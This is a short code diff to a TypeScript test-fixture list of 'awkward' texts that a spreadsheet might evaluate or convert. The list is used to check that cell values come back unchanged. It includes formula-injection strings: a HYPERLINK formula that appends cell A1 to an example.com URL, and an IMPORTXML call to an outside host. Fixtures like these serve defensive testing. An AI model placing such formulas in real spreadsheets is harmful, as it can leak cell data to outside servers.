@@ -1,6 +1,7 @@
-// Texts that a spreadsheet would evaluate, re-type or break. The simulated service has the same ones; a test holds the
-// two lists against each other.
+// Texts that a spreadsheet would evaluate, convert or break if they were written carelessly. The simulated service has
+// the same list; a test compares the two.
 
+/** Texts that have to come back from a cell unchanged. */
 export const AWKWARD_TEXTS: readonly string[] = [
   '=HYPERLINK("https://example.com/?q="&A1,"Clique aqui")',
   '=IMPORTXML("https://example.com";"//a")',
